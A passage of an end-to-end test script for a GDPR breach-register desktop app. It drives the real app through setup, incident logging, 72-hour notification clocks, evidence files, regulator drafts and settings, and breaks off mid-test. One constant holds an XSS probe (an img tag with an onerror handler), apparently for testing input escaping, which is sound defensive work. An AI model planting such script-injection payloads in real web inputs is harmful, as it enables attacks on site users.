// End-to-end test of the REAL built app: tauri-driver + WebKitWebDriver (run under Xvfb).
// Usage: node tests/e2e/run.mjs <path to breachlog-app binary>
// Screenshots go to target/e2e-screenshots/. Every step asserts what the user would see.
import assert from "node:assert/strict";
import { execFileSync, spawn } from "node:child_process";
import { createHash, randomBytes } from "node:crypto";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { startTsa } from "./tsa.mjs";
import { Key, Session, sleep } from "./webdriver.mjs";
import { layoutStep } from "./layout.mjs";

const root = resolve(import.meta.dirname, "../..");
const app = resolve(process.argv[2] ?? join(process.env.CARGO_TARGET_DIR ?? join(root, "target"), "debug/breachlog-app"));
const shots = join(root, "target/e2e-screenshots");
const PASS = "correct horse battery staple";
const XSS = "<img src=x onerror=alert(1)>";
// Another e2e run on the same machine (a second worktree) can take other ports: E2E_PORT.
const port = Number(process.env.E2E_PORT ?? 4444);
const started = Date.now();

mkdirSync(shots, { recursive: true });
const dir = mkdtempSync(join(tmpdir(), "breachlog-e2e-"));
const env = {
  ...process.env,
  BREACHLOG_DB: join(dir, "register.db"),
  BREACHLOG_NO_KEYRING: "1",
  BREACHLOG_ACTOR: "e2e",
  // Keep the webview's storage (the remembered UI language) out of the user's profile.
  XDG_DATA_HOME: join(dir, "data"),
  XDG_CACHE_HOME: join(dir, "cache"),
  XDG_CONFIG_HOME: join(dir, "config"),
  TZ: "Europe/Amsterdam",
};
const driverBin = process.env.TAURI_DRIVER ?? "tauri-driver";
const driver = spawn(driverBin, ["--port", String(port), "--native-port", String(port + 1)], { env, stdio: ["ignore", "inherit", "inherit"] });

let s;
let step = 0;
async function shot(name, { top = true } = {}) {
  if (top) await s.exec("window.scrollTo(0, 0)");
  await sleep(700); // the WebDriver screenshot can show the previous frame right after a change
  const file = `${String(++step).padStart(2, "0")}-${name}.png`;
  writeFileSync(join(shots, file), await s.screenshot());
  console.log(`  screenshot ${file}`);
}
async function waitGone(css, timeout = 10000) {
  const end = Date.now() + timeout;
  while (await s.exec("return document.querySelector(arguments[0]) !== null", css)) {
    if (Date.now() > end) throw new Error(`${css} did not go away`);
    await sleep(100);
  }
}
/** Saves through the app's native GTK save dialog titled `title`: types `path` into its name
 * field with xdotool (Xvfb has no window manager; the app has no test hook around the dialog). */
async function gtkSave(title, path) {
  let wid = "";
  for (let i = 0; !wid; i++) {
    try {
      wid = execFileSync("xdotool", ["search", "--onlyvisible", "--name", `^${title}$`], { encoding: "utf8" }).trim().split("\n")[0];
    } catch {
      if (i > 80) throw new Error(`no save dialog "${title}"`);
      await sleep(250);
    }
  }
  await sleep(500); // mapped; let it take the focus before typing
  execFileSync("xdotool", ["windowfocus", "--sync", wid]);
  execFileSync("xdotool", ["key", "ctrl+a"]);
  execFileSync("xdotool", ["type", "--delay", "10", path]);
  execFileSync("xdotool", ["key", "Return"]);
}
/** Opens a file through the app's native GTK open dialog titled `title`: its location bar
 * (Ctrl+L) takes the full path. */
async function gtkOpen(title, path) {
  const find = () => {
    try {
      return execFileSync("xdotool", ["search", "--onlyvisible", "--name", `^${title}$`], { encoding: "utf8" }).trim().split("\n")[0];
    } catch {
      return "";
    }
  };
  let wid = "";
  for (let i = 0; !(wid = find()); i++) {
    if (i > 80) throw new Error(`no open dialog "${title}"`);
    await sleep(250);
  }
  await sleep(500);
  // GTK remembers whether the location bar was shown by an earlier dialog of the process, and
  // Ctrl+L then only focuses it: select what it holds and type over it. The dialog must close
  // (a closed dialog stays as an unmapped window, hence --onlyvisible); when it does not (the
  // keys went elsewhere while it was still mapping), try again.
  for (let attempt = 1; ; attempt++) {
    execFileSync("xdotool", ["windowfocus", "--sync", wid]);
    execFileSync("xdotool", ["key", "ctrl+l"]);
    await sleep(300);
    execFileSync("xdotool", ["key", "ctrl+a"]);
    execFileSync("xdotool", ["type", "--delay", "10", path]);
    await sleep(200);
    execFileSync("xdotool", ["key", "Return"]);
    for (let i = 0; i < 20 && find(); i++) await sleep(250);
    if (!find()) return;
    if (attempt === 3) throw new Error(`the open dialog "${title}" did not take ${path}`);
    log(`open dialog "${title}" still open after attempt ${attempt}; typing the path again`);
  }
}
/** Picks a folder through the app's native GTK folder dialog titled `title` (see below). */
async function gtkPickFolder(title, path) {
  const find = () => {
    try {
      return execFileSync("xdotool", ["search", "--onlyvisible", "--name", `^${title}$`], { encoding: "utf8" }).trim().split("\n")[0];
    } catch {
      return "";
    }
  };
  let wid = "";
  for (let i = 0; !(wid = find()); i++) {
    if (i > 80) throw new Error(`no folder dialog "${title}"`);
    await sleep(250);
  }
  await sleep(500);
  // Typing a path into the dialog opens its location bar with what was typed; Return opens that
  // folder in the dialog, a second Return (nothing selected) selects the folder shown.
  // The first "/" opens the location bar (keys typed while it opens are lost): wait for it, then
  // type the whole path over what it holds.
  for (const [n, keys] of [null, "Return", "Return", "alt+o", "alt+s"].entries()) {
    execFileSync("xdotool", ["windowfocus", "--sync", wid]);
    if (keys === null) {
      execFileSync("xdotool", ["key", "slash"]);
      await sleep(700);
      execFileSync("xdotool", ["key", "ctrl+a"]);
      execFileSync("xdotool", ["type", "--delay", "20", `${path}/`]);
      await sleep(300);
    } else execFileSync("xdotool", ["key", keys]);
    for (let i = 0; i < 8 && find(); i++) await sleep(250);
    if (!find()) return log(`folder picked after step ${n} (${keys ?? "typing the path"})`);
  }
  throw new Error(`the folder dialog "${title}" did not take ${path}`);
}
function log(msg) {
  console.log(`[${((Date.now() - started) / 1000).toFixed(1)} s] ${msg}`);
}

async function connect() {
  for (let i = 0; i < 100; i++) {
    try {
      return await Session.create(`http://127.0.0.1:${port}`, app);
    } catch (e) {
      if (i === 99) throw e;
      await sleep(200);
    }
  }
}

async function quickLog(title, description, detectedLocal) {
  await s.keys([Key.ctrl, "n"]); // the in-app shortcut
  await s.waitFor("#ql-input-title");
  const focused = await s.exec("return document.activeElement && document.activeElement.id");
  assert.equal(focused, "ql-input-title", "quick log focuses the title");
  await s.keys(...title);
  if (detectedLocal) await s.setValue("#ql-detected", detectedLocal);
  // Tab on through the date field (WebKit gives it one stop per segment) to "what happened".
  for (let i = 0; i < 10; i++) {
    await s.keys(Key.tab);
    if ((await s.exec("return document.activeElement.id")) === "ql-description") break;
  }
  await s.keys(...description);
}

try {
  s = await connect();
  log("session started");

  // ---- first run -------------------------------------------------------------------------
  await s.waitFor("h1", { text: "Create your incident register" });
  await shot("first-run-org");
  await s.click("#org-next");
  // The refusal sits under the name field, which is marked and focused.
  await s.waitFor("#org-name-error .error", { text: "must not be empty" });
  assert.equal(await s.exec("return document.activeElement.id + ' ' + document.activeElement.getAttribute('aria-invalid')"), "org-name true");
  await s.type("#org-name", "Acme Test BV");
  await s.type("#org-contact", "dpo@acme.test");
  await s.setValue("#org-timezone", "Europe/Amsterdam");
  // The lead authority is picked from the registry by searching its name, never typed as an id.
  await s.click("#org-authority");
  await s.type("#org-authority", "Persoonsgegevens");
  await s.waitFor('#org-authority-list li[data-id="nl-ap"]');
  await shot("first-run-authority-picker", { top: false });
  await s.click('#org-authority-list li[data-id="nl-ap"]');
  assert.match(await s.exec("return document.querySelector('#org-authority').value"), /Autoriteit Persoonsgegevens \(AP\)/);
  await s.click("#org-next");
  await s.type("#new-passphrase", "short");
  await s.waitFor("#strength-label", { text: "Weak" });
  await s.clear("#new-passphrase");
  await s.type("#new-passphrase", PASS);
  await s.type("#new-passphrase2", PASS);
  await s.waitFor("#strength-label", { text: /Good|Strong/ });
  await shot("first-run-passphrase");
  await s.click("#create-register"); // "Next": the key is made in memory, nothing is written yet
  const recovery = await s.textOf("#recovery-key");
  assert.match(recovery, /^([A-Z2-7]{4}-){7}[A-Z2-7]{4}$/);
  const db = env.BREACHLOG_DB;
  assert.equal(existsSync(db) || existsSync(`${db}.keys`), false, "no register before the recovery key is confirmed");
  await shot("first-run-recovery-key");
  // Save the Recovery Kit as PDF through the native save dialog: private, with the key shown.
  await s.click("#kit-save");
  const kit = join(dir, "Breachlog-Recovery-Kit-e2e.pdf");
  await gtkSave("Save the Breachlog Recovery Kit", kit);
  await s.waitFor("#kit-saved", { text: "Breachlog-Recovery-Kit-e2e.pdf" });
  assert.equal((statSync(kit).mode & 0o777).toString(8), "600", "the kit is private");
  const kitText = execFileSync("pdftotext", ["-enc", "UTF-8", kit, "-"], { encoding: "utf8", timeout: 10000 });
  assert.ok(kitText.includes(recovery), "the kit carries the key shown");
  assert.ok(kitText.includes("Acme Test BV"), "and the organisation");
  assert.equal(existsSync(db), false, "saving the kit does not create the register");
  await shot("first-run-kit-saved");
  await s.waitFor("#recovery-done");
  assert.equal(await s.exec("return document.querySelector('#recovery-done').disabled"), true, "cannot continue unconfirmed");
  await s.click("#recovery-stored");
  await s.type("#recovery-tail", recovery.slice(-4));
  await s.click("#recovery-done");
  await s.waitFor("h2", { text: "No incidents yet" });
  assert.equal(existsSync(db) && existsSync(`${db}.keys`), true, "created once confirmed");
  assert.equal(await s.exec("return document.querySelector('#recovery-reminder')"), null, "a confirmed key is not nagged about");
  await shot("register-empty");
  log("first run done");

  // ---- quick log (keyboard only) ----------------------------------------------------------
  const t0 = Date.now();
  await quickLog("Customer CSV emailed to wrong recipient", "Support sent an export with 1,200 customers to a partner.");
  await shot("quick-log");
  await s.keys([Key.ctrl, Key.enter]);
  await s.waitFor("#incident-title", { text: "Customer CSV emailed to wrong recipient" });
  log(`quick log saved in ${((Date.now() - t0) / 1000).toFixed(1)} s (driver typing included)`);
  await s.waitFor("#incident-description", { text: "1,200 customers" });
  await s.waitFor("#incident-status", { text: "reported" });
  await shot("incident-new");

  // ---- lifecycle: only allowed transitions are offered -----------------------------------
  assert.deepEqual(await s.exec("return [...document.querySelectorAll('[id^=move-]')].map(b => b.id)"), ["move-triage"]);
  await s.click("#move-triage");
  await s.waitFor("#incident-status", { text: "triage" });
  await s.click("#move-investigating");
  await s.waitFor("#incident-status", { text: "investigating" });
  assert.deepEqual(await s.exec("return [...document.querySelectorAll('[id^=move-]')].map(b => b.id)"), ["move-contained"]);

  // ---- breach assessment starts the 72 h clock --------------------------------------------
  await s.setValue("#a-personal-data", "yes");
  await s.setValue("#a-risk", "risk");
  await s.click("#a-save");
  // The core's rule, shown under the field, which is marked and focused (scrolled to).
  await s.waitFor("#a-risk-reasoning-error .error", { text: "risk reasoning" });
  assert.equal(await s.exec("return document.activeElement.id + ' ' + document.activeElement.getAttribute('aria-invalid')"), "a-risk-reasoning true");
  await shot("assessment-error-at-field", { top: false });
  await s.type("#a-risk-reasoning", "Contact data of 1,200 customers; no special categories.");
  // ENISA calculator, live: behavioural data (2) × EI 1 + disclosed to a known number of
  // recipients 0.25 + malicious 0.5 = 2.75, medium.
  await s.setValue("#e-dpc", "2");
  await s.setValue("#e-ei", "1");
  await s.setValue("#e-c", "0.25");
  await s.click("#e-malicious");
  await s.waitFor("#enisa-result", { text: "Severity 2.75: medium" });
  assert.equal(await s.textOf("#enisa-arithmetic"), "DPC 2 × EI 1 + CB 0.75 (C 0.25 + I 0 + A 0 + M 0.5) = 2.75");
  await s.exec("document.querySelector('#enisa').scrollIntoView({ block: 'center' })");
  await shot("enisa-calculator", { top: false });
  // What the AP's and the CNIL's forms also ask (issue 14): a refused range names its field.
  await s.setValue("#a-ongoing", "no");
  await s.setValue("#a-encrypted", "partly");
  await s.setValue("#a-legal-basis", "gdpr");
  await s.type("#a-subjects-min", "1500");
  await s.type("#a-subjects-max", "1000");
  await s.click("#a-save");
  await s.waitFor("#a-subjects-min-error .error", { text: "minimum number of people" });
  await s.clear("#a-subjects-min");
  await s.type("#a-subjects-min", "900");
  await s.exec("document.querySelector('#a-form-answers').scrollIntoView({ block: 'center' })");
  await shot("assessment-form-answers", { top: false });
  await s.click("#a-save");
  await s.waitFor("#breach-flag");

  // ---- regulation engine: the GDPR obligation with its due time, a filing, "filed" ---------
  const obl = '#obligations-panel li.obligation[data-regime="gdpr"][data-kind="notification"]';
  await s.waitFor(obl);
  assert.equal(await s.exec(`return document.querySelector('${obl}').dataset.status`), "pending");
  const dueDay = await s.exec(
    `const p = Object.fromEntries(new Intl.DateTimeFormat("en-GB", { timeZone: "Europe/Amsterdam", year: "numeric", month: "2-digit", day: "2-digit" })
       .formatToParts(Date.now() + 72 * 3600000).map((x) => [x.type, x.value]));
     return p.day + "/" + p.month + "/" + p.year;`,
  );
  // 72 h after awareness, in the org's zone, written day/month/year with a 24-hour clock and CET/CEST.
  await s.waitFor(`${obl} .obl-due`, { text: new RegExp(`Due ${dueDay.replaceAll("/", "\\/")} \\d\\d:\\d\\d CES?T`) });
  const clock = await s.textOf(`${obl} .obl-clock`);
  assert.match(clock, /^(2d 2[23]:\d\d:\d\d|3d 00:00:00)$/, `a fresh 72 h clock: ${clock}`);
  assert.equal(await s.exec(`return document.querySelector('${obl} .clock').dataset.level`), "ok");
  assert.match(await s.textOf(`${obl} .obl-what`), /Autoriteit Persoonsgegevens/);
  // The Art 33(3) checklist: all eight items, and its summary agrees with the items marked missing.
  await s.waitFor("#art33", { text: "Nature of the breach" });
  assert.equal(await s.exec("return document.querySelectorAll('#art33 li').length"), 8, "the Art 33(3) checklist lists eight items");
  const art33Missing = await s.exec("return document.querySelectorAll('#art33 li.missing').length");
  await s.waitFor("#art33 + p", {
    text:
      art33Missing === 0
        ? "Everything Art 33(3) asks for is recorded."
        : art33Missing === 1
          ? "One item is still missing."
          : `${art33Missing} items are still missing.`,
  });
  // The stored ENISA result comes back with the assessment.
  await s.waitFor("#enisa-result", { text: "Severity 2.75: medium" });
  await shot("incident-breach-obligations");
  await s.click(`${obl} .file-btn`);
  await s.waitFor("#filing-dialog");
  await s.setValue("#f-channel", "portal");
  await s.type("#f-reference", "AP-2026-12345");
  await shot("filing-dialog");
  await s.click("#f-save");
  await waitGone("#filing-dialog");
  await s.waitFor(`${obl}[data-status="filed"]`);
  await s.waitFor(`${obl} .filings`, { text: "AP-2026-12345" });
  await s.waitFor(`${obl} .obl-status`, { text: "filed" });
  await shot("obligation-filed");

  // ---- evidence: the authority's receipt attached through the native file dialog, a copy saved
  // through the save dialog, byte for byte; both in the incident's timeline ----------------------
  const receipt = join(dir, "AP-ontvangstbevestiging.pdf");
  writeFileSync(receipt, Buffer.concat([Buffer.from("%PDF-1.4\n"), randomBytes(1_500_000)]));
  const receiptSha = createHash("sha256").update(readFileSync(receipt)).digest("hex");
  await s.exec("document.querySelector('#evidence').scrollIntoView({ block: 'center' })");
  await s.type("#evidence-note", "Receipt of the AP for our notification");
  await s.click("#evidence-add");
  await gtkOpen("Choose the file to attach as evidence", receipt);
  await s.waitFor("#evidence-done", { text: "AP-ontvangstbevestiging.pdf attached: 1.4 MiB (1,500,009 bytes)." });
  await s.waitFor(".evidence-item .evidence-sha", { text: receiptSha });
  await s.waitFor(".evidence-item", { text: "Receipt of the AP for our notification" });
  await s.exec("document.querySelector('#evidence').scrollIntoView({ block: 'center' })");
  await shot("evidence-attached", { top: false });
  await s.click(".evidence-item .evidence-export");
  const receiptCopy = join(dir, "receipt-copy.pdf");
  await gtkSave("Save a copy of the evidence file", receiptCopy);
  await s.waitFor("#evidence-done", { text: `Saved to ${receiptCopy}` });
  assert.ok(readFileSync(receiptCopy).equals(readFileSync(receipt)), "the copy is the file attached, byte for byte");
  assert.equal((statSync(receiptCopy).mode & 0o777).toString(8), "600", "the copy is private");
  await s.waitFor(".evidence-item", { text: "exported once" });
  await s.waitFor("#timeline", { text: "Evidence file exported" });
  await s.waitFor("#timeline", { text: "Evidence file added" });
  await s.exec("document.querySelector('#evidence').scrollIntoView({ block: 'center' })");
  await shot("evidence-exported", { top: false });
  log("evidence attached and exported");
  await s.exec("window.scrollTo(0, 0)");

  // ---- notification draft for the lead authority, field by field -----------------------------
  await s.click("#open-drafts");
  await s.waitFor("#draft");
  assert.equal(await s.exec("return document.querySelector('#draft').lang"), "nl", "the AP draft is in Dutch");
  await s.waitFor(".draft-field[data-field=data_categories] .draft-label", { text: "Soorten persoonsgegevens" });
  assert.ok(await s.exec("return document.querySelector('.draft-field[data-field=consequences]').classList.contains('missing')"), "missing Art 33(3) item highlighted");
  await s.waitFor("#draft-missing");
  assert.ok((await s.exec("return document.querySelectorAll('#draft button.copy').length")) > 10);
  await s.click(".draft-field[data-field=title] button.copy");
  await s.waitFor(".draft-field[data-field=title] button.copy", { text: "Copied" });
  // The value really is on the X clipboard (WebKitGTK's clipboard, read back with xclip).
  const clip = execFileSync("xclip", ["-o", "-selection", "clipboard"], { encoding: "utf8", timeout: 5000 });
  assert.equal(clip, "Customer CSV emailed to wrong recipient");
  await shot("draft-nl-ap");
  // The form's answers from the assessment, the unanswered ones flagged, the AP's channel.
  await s.waitFor(".draft-field[data-field=ongoing] .draft-value", { text: "nee" });
  await s.waitFor(".draft-field[data-field=subjects_range] .draft-value", { text: "900 – 1.000" });
  assert.ok(await s.exec("return document.querySelector('.draft-field[data-field=severity_estimate]').classList.contains('missing')"), "unanswered severity flagged");
  await s.waitFor("#draft-unanswered", { text: "Severity estimate" });
  await s.waitFor("#channel-portal", { text: "https://datalekken.autoriteitpersoonsgegevens.nl" });
  await s.exec("document.querySelector('#authority-channel').scrollIntoView({ block: 'start' })");
  await shot("draft-nl-ap-channel", { top: false });
  await s.exec("window.scrollTo(0, 0)");
  await s.click("#draft-kind-subjects");
  await s.waitFor(".draft-field[data-field=subjects_intro]");
  assert.equal(await s.exec("return document.querySelector('#draft').lang"), "en");
  await shot("draft-subjects");
  // The DORA report (Implementing Regulation (EU) 2025/302 Annex I), fields under their numbers;
  // no CRA tab for an incident not classified under the Cyber Resilience Act.
  assert.equal(await s.exec("return document.querySelector('#draft-kind-cra')"), null, "no CRA tab without a CRA kind");
  await s.click("#draft-kind-dora");
  await s.waitFor(".draft-field[data-field='2.2'] .draft-label", { text: "2.2 Date and time of detection" });
  await s.waitFor("#draft-missing", { text: "Annex II makes mandatory" });
  assert.ok(await s.exec("return document.querySelector(\".draft-field[data-field='1.3']\").classList.contains('missing')"), "1.3 flagged");
  await s.setValue("#draft-stage", "final");
  await s.waitFor(".draft-field[data-field='4.6'] .draft-label", { text: "4.6 Incident resolution summary" });
  await shot("draft-dora-final");
  // Back to the letter to the people.
  await s.click("#draft-kind-subjects");
  await s.waitFor(".draft-field[data-field=subjects_intro]");
  // The Art 34 letter is edited before issuing: the saved text replaces the proposed one.
  await s.click(".draft-field[data-field=letter_advice] button.edit");
  await s.clear("#letter-letter_advice");
  await s.type("#letter-letter_advice", "Change your password at shop.example now.");
  await s.click(".draft-field[data-field=letter_advice] button.save");
  await s.waitFor(".draft-field[data-field=letter_advice] .draft-value", { text: "Change your password at shop.example now." });
  await s.waitFor(".draft-field[data-field=letter_advice] .edited-pill", { text: "edited" });
  await s.exec("document.querySelector('.draft-field[data-field=letter_advice]').scrollIntoView({ block: 'center' })");
  await shot("draft-letter-edited", { top: false });
  await s.exec("window.scrollTo(0, 0)");
  // An authority without a form of its own: the EDPB common template, marked as its draft.
  await s.click("#draft-kind-authority");
  await s.setValue("#draft-authority", "at-dsb");
  await s.waitFor("#draft .draft-title", { text: "gemeinsame EDSA-Vorlage (Entwurf vom 10. Juni 2026)" });
  assert.equal(await s.exec("return document.querySelectorAll('#draft h2').length"), 6, "six blocks");
  assert.ok(await s.exec("return document.querySelector('.draft-field[data-field=reporting_person]').classList.contains('missing')"), "reporting person asked");
  await shot("draft-edpb");
  log("obligation filed, drafts shown");

  // Older breaches: aware 70 h ago → under 4 h left (red), 80 h ago → overdue, 54 h ago → amber.
  for (const [title, hoursAgo] of [["Ransomware on file server", 70], ["Lost laptop with HR data", 80], ["Phishing: payroll login", 54]]) {
    await s.click("#quick-log");
    await s.waitFor("#ql-input-title");
    await s.keys(...title);
    const when = await s.exec(
      `const d = new Date(Date.now() - arguments[0] * 3600000);
       const p = Object.fromEntries(new Intl.DateTimeFormat("en-CA", { timeZone: "Europe/Amsterdam", hourCycle: "h23",
         year: "numeric", month: "2-digit", day: "2-digit", hour: "2-digit", minute: "2-digit" }).formatToParts(d).map(x => [x.type, x.value]));
       return p.year + "-" + p.month + "-" + p.day + "T" + p.hour + ":" + p.minute;`,
      hoursAgo,
    );
    await s.setValue("#ql-detected", when);
    await s.click("#ql-save");
    await s.waitFor("#incident-title", { text: title });
    await s.setValue("#a-personal-data", "yes");
    await s.setValue("#a-aware-at", when);
    await s.setValue("#a-risk", "high");
    await s.type("#a-risk-reasoning", "Large volume of personal data.");
    await s.type("#a-aware-justification", "Confirmed only after the forensic review.");
    await s.click("#a-save");
    await s.waitFor("#breach-flag");
  }
  await s.click("#nav-register");
  await s.waitFor("table.incidents");
  await sleep(500);
  const levels = await s.exec("return [...document.querySelectorAll('table.incidents .clock')].map(c => c.dataset.level).sort()");
  // The nearest running obligation per incident; the first incident's is filed, so it shows none.
  assert.deepEqual(levels, ["amber", "overdue", "red"], "countdown colours in the register");
  await s.waitFor("table.incidents tr", { text: "Customer CSV emailed" });
  assert.equal(
    await s.exec("return [...document.querySelectorAll('table.incidents tr')].find(r => r.textContent.includes('Customer CSV')).querySelector('.clock')"),
    null,
    "a filed obligation has no running clock",
  );
  await shot("register-countdowns");

  // ---- the obligations screen: overdue first; a late first filing needs reasons ---------------
  await s.click("#nav-obligations");
  await s.waitFor("#obligations-all");
  const statuses = await s.exec("return [...document.querySelectorAll('#obligations-all li.obligation')].map(l => l.dataset.status)");
  assert.equal(statuses[0], "overdue", `overdue first: ${statuses}`);
  await s.waitFor("#obligations-all li.obligation:first-child .obl-incident", { text: "Lost laptop with HR data" });
  await s.waitFor("#obls-overdue");
  await shot("obligations-screen");
  await s.click("#obligations-all li.obligation:first-child .file-btn");
  await s.waitFor("#f-late-hint");
  await s.type("#f-reference", "AP-2026-67890");
  await s.click("#f-save");
  await s.waitFor("#f-reasons-error", { text: "reasons for the delay" }); // the core's refusal, next to the field
  await shot("filing-late-refused");
  await s.type("#f-reasons", "The forensic review took longer than planned.");
  await s.click("#f-save");
  await waitGone("#filing-dialog");
  await s.click("#obls-show-done");
  await s.waitFor('#obligations-all li.obligation[data-status="filed_late"]', { text: "late by" });
  await s.waitFor('#obligations-all li.obligation[data-status="filed"]', { text: "AP-2026-12345" });
  log("late filing checked");

  // ---- authority contact log: a request with a response date becomes an obligation ------------
  await s.click("#nav-contacts");
  await s.waitFor("#contacts-h");
  await s.click("#contact-add");
  await s.type("#c-subject", "Request for the register of breaches (Art 33(5))");
  await s.type("#c-reference", "AP-2026-0042");
  const dueLocal = await s.exec(
    `const p = Object.fromEntries(new Intl.DateTimeFormat("en-CA", { timeZone: "Europe/Amsterdam", hourCycle: "h23",
       year: "numeric", month: "2-digit", day: "2-digit", hour: "2-digit", minute: "2-digit" }).formatToParts(Date.now() + 14 * 86400000).map(x => [x.type, x.value]));
     return p.year + "-" + p.month + "-" + p.day + "T17:00";`,
  );
  await s.setValue("#c-due", dueLocal);
  await s.click("#c-save");
  await s.waitFor(".contact-row .contact-subject", { text: "register of breaches" });
  await shot("authority-contacts");
  await s.click("#nav-obligations");
  await s.waitFor('#obligations-all li.obligation[data-kind="authority-request"]', { text: "Autoriteit Persoonsgegevens" });

  // ---- settings: regimes, rule hours only shorter than the law (96 h refused, 48 h kept for new
  // obligations; earlier obligations keep 72 h), controllers ----
  await s.click("#nav-settings");
  await s.waitFor('#rules tr[data-rule="gdpr/art33-1"] input');
  await s.setValue('#rules tr[data-rule="gdpr/art33-1"] input', "96");
  await s.click('#rules tr[data-rule="gdpr/art33-1"] button');
  await s.waitFor('#rules tr[data-rule="gdpr/art33-1"] [role="alert"]', { text: "at most 72 hours" });
  await s.setValue('#rules tr[data-rule="gdpr/art33-1"] input', "48");
  await s.click('#rules tr[data-rule="gdpr/art33-1"] button');
  await s.waitFor('#rules tr[data-rule="gdpr/art33-1"]', { text: "the law says 72 h" });
  await s.type("#ctl-name", "Globex Retail BV");
  await s.type("#ctl-hours", "24");
  await s.click("#ctl-add");
  await s.waitFor("#controllers li", { text: "Globex Retail BV" });
  await s.exec("document.querySelector('#regimes').scrollIntoView()");
  await shot("settings-regulation", { top: false });
  // The organisation's standing details (issue 14 item 7): a KvK number of 7 digits refused
  // under its field, then saved with the DPO.
  await s.type("#org-legal-rep", "Anna de Vries");
  await s.type("#org-registration", "3412345");
  await s.type("#org-dpo-name", "Piet Jansen");
  await s.type("#org-dpo-email", "fg@example.test");
  await s.click("#save-org");
  await s.waitFor("#org-registration-error .error", { text: "KvK" });
  await s.exec("document.querySelector('#org-standing').scrollIntoView({ block: 'center' })");
  await shot("settings-org-standing-error", { top: false });
  await s.clear("#org-registration");
  await s.type("#org-registration", "34123456");
  await s.click("#save-org");
  await s.waitFor(".toast", { text: "Saved" });
  assert.equal(await s.exec("return document.querySelector('#org-registration-error .error')"), null, "the error left after saving");
  await shot("settings-org-standing-saved", { top: false });
  await s.click("#nav-obligations");
  await s.waitFor("#obligations-all li.obligation");
  assert.equal(await s.exec("return [...document.querySelectorAll('#obligations-all li.obligation')].filter(l => l.textContent.includes('48 hours')).length"), 0, "past obligations keep 72 h");
  // NIS2 enabled for the organisation: classifying the incident as significant starts its clocks.
  await s.click("#nav-settings");
  await s.click("#regime-nis2");
  await s.click("#save-regimes");
  await s.waitFor('#rules tr[data-rule^="nis2/"]');
  await s.click("#nav-register");
  await s.waitFor(".row-title", { text: "Customer CSV" });
  await s.exec("[...document.querySelectorAll('.row-title')].find((b) => b.textContent.includes('Customer CSV')).click()");
  await s.waitFor("#classify");
  await s.setValue("#cl-regime", "nis2");
  await s.setValue("#cl-malicious", "no");
  await s.click("#cl-save");
  await s.waitFor("#classified-nis2", { text: "NIS2 significant since" });
  await s.waitFor('#obligations-panel li.obligation[data-regime="nis2"][data-kind="early-warning"] .obl-clock .clock');
  await s.waitFor('#obligations-panel li.obligation[data-regime="nis2"][data-kind="notification"]');
  await shot("incident-nis2-classified");
  // The notification filed now: the final report's month counts under Regulation 1182/71 — aim
  // for this clock time on the same date next month, the legal limit is the end of that day
  // (or of the next working day).
  const nis2n = '#obligations-panel li.obligation[data-regime="nis2"][data-kind="notification"]';
  await s.click(`${nis2n} .file-btn`);
  await s.waitFor("#filing-dialog");
  await s.setValue("#f-channel", "portal");
  await s.type("#f-reference", "CSIRT-2026-7");
  await s.click("#f-save");
  await waitGone("#filing-dialog");
  const fin = '#obligations-panel li.obligation[data-regime="nis2"][data-kind="final"]';
  await s.waitFor(`${fin} .obl-aim`, { text: /^Aim for \d\d\/\d\d\/\d{4} \d\d:\d\d CES?T · legal limit \d\d\/\d\d\/\d{4} 23:59 CES?T$/ });
  assert.equal(await s.exec(`return document.querySelector('${fin} .obl-aim').title`), "eu-1182-71-months");
  await shot("incident-nis2-final-aim-for");
  // The NIS2 report to the CSIRT of the lead authority's country (the Dutch AP → NCSC-NL), in
  // the channel's language, carrying the CSIRT's reference of the filing; then the German BSI's
  // final report (issue 14 item 10).
  await s.click("#open-drafts");
  await s.waitFor("#draft");
  await s.click("#draft-kind-nis2");
  await s.waitFor("#draft .draft-title", { text: "Vroegtijdige waarschuwing aan NCSC-NL" });
  await s.waitFor(".draft-field[data-field=reference] .draft-value", { text: "CSIRT-2026-7" });
  await s.waitFor(".draft-field[data-field=malicious_suspected] .draft-value", { text: "nee" });
  assert.ok(await s.exec("return document.querySelector('.draft-field[data-field=sector]').classList.contains('missing')"), "sector asked");
  await shot("draft-nis2-nl");
  await s.setValue("#draft-nis2-stage", "final");
  await s.setValue("#draft-nis2-channel", "de");
  await s.waitFor("#draft .draft-title", { text: "Abschlussmeldung an BSI" });
  await s.waitFor(".draft-field[data-field=source_url] .draft-value", { text: "https://www.bsi.bund.de/" });
  await shot("draft-nis2-de-final");
  // Issued as a sealed PDF from the draft screen: the German final report, in German.
  const nis2Pdf = join(dir, "nis2-final-de.pdf");
  await s.click("#draft-issue-pdf");
  await gtkSave("Save the report as PDF", nis2Pdf);
  await s.waitFor("#draft-issued", { text: /^✓ Report RPT-\d+ issued \(\d+ pages\)\. Saved to / });
  assert.ok(existsSync(nis2Pdf), "the NIS2 PDF is written");
  assert.equal(statSync(nis2Pdf).mode & 0o777, 0o600, "the NIS2 PDF is private");
  const nis2Text = execFileSync("pdftotext", ["-enc", "UTF-8", nis2Pdf, "-"], { encoding: "utf8" });
  assert.ok(nis2Text.includes("Abschlussmeldung an BSI"), nis2Text.slice(0, 400));
  await shot("draft-nis2-issued");
  await s.click("#nav-register");
  await s.waitFor(".row-title", { text: "Customer CSV" });
  // The Cyber Resilience Act and DORA (issue 13): the kind of CRA report is required (refused
  // under its field, nothing written), then the corrective measure (the vulnerability's final
  // report, 14 days, Art 14(2)(c)) and DORA's recovery of regular activities (the updated
  // intermediate report, 2025/301 Art 5(1)(b)) recorded from the incident screen.
  await s.click("#nav-settings");
  await s.click("#regime-cra");
  await s.click("#regime-dora");
  await s.click("#save-regimes");
  await s.waitFor('#rules tr[data-rule^="cra/"]');
  await s.click("#nav-register");
  await s.waitFor(".row-title", { text: "Customer CSV" });
  await s.exec("[...document.querySelectorAll('.row-title')].find((b) => b.textContent.includes('Customer CSV')).click()");
  await s.waitFor("#classify");
  await s.setValue("#cl-regime", "cra");
  await s.waitFor("#cl-cra-kind");
  await s.click("#cl-save");
  await s.waitFor("#cl-cra-kind-error .error", { text: "kind of Cyber Resilience Act report" });
  assert.equal(await s.exec("return document.querySelector('#classified-cra')"), null, "a refused classification writes nothing");
  await s.exec("document.querySelector('#classify').scrollIntoView({ block: 'center' })");
  await shot("incident-cra-kind-refused", { top: false });
  await s.setValue("#cl-cra-kind", "exploited-vulnerability");
  await s.click("#cl-save");
